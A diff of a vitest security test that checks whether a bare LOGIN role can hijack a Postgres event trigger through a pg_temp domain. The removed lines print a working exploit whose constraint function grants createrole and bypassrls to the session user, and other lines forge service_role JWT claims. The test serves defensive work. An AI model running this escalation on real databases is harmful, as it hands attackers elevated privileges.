@@ -11,6 +11,7 @@
  */
 import postgres from "postgres";
 import { afterAll, beforeAll, describe, expect, it } from "vitest";
+import { plantTempDomainTrap } from "./harness/temp_domain_trap.ts";
 import { createTestDatabase, databaseUrl, type TestDatabase } from "./harness/database.ts";
 import { runCli } from "./drift_guard_schema_helpers.ts";
 
@@ -49,24 +50,7 @@ describe("pg_temp type hijack by a bare LOGIN role", () => {
     await db.sql.unsafe(`create role ${attackerRole} login nocreaterole nobypassrls password '${PASSWORD}'`);
     const attacker = postgres(databaseUrl(db.name, PASSWORD, attackerRole), { onnotice: () => {}, max: 1 });
     try {
-      // The domain comes first, with no constraint yet: plpgsql resolves a function's types when a
-      // session first runs it, and every later statement here is DDL that runs the trigger.
-      // Every name in the attacker's own objects is qualified, so they work whatever the path.
-      await attacker.unsafe(`create domain pg_temp.${type} as pg_catalog.${type}`);
-      await attacker.unsafe(`create temp table seen (who pg_catalog.text)`);
-      // Where the owner is not a superuser (hosted Supabase), it may still write here.
-      await attacker.unsafe(`grant insert on pg_temp.seen to public`);
-      await attacker.unsafe(`
-        create function pg_temp.evil(p pg_catalog.text) returns pg_catalog.bool language plpgsql as $$
-        begin
-          begin
-            execute pg_catalog.format('alter role %I createrole bypassrls', pg_catalog."session_user"());
-          exception when others then null;
-          end;
-          insert into pg_temp.seen values (pg_catalog."current_user"()::pg_catalog.text);
-          return true;
-        end $$`);
-      await attacker.unsafe(`alter domain pg_temp.${type} add constraint hijack check (pg_temp.evil(value::pg_catalog.text))`);
+      await plantTempDomainTrap(attacker, type);
       // The claims make the trigger parse them too (drift_guard.ledger_jwt_claims).
       await attacker.unsafe(`select pg_catalog.set_config('request.jwt.claims', '{"sub":"x","role":"service_role"}', false)`);
       // Any DDL fires the ledger's event trigger: here a temporary table, which needs no grant.
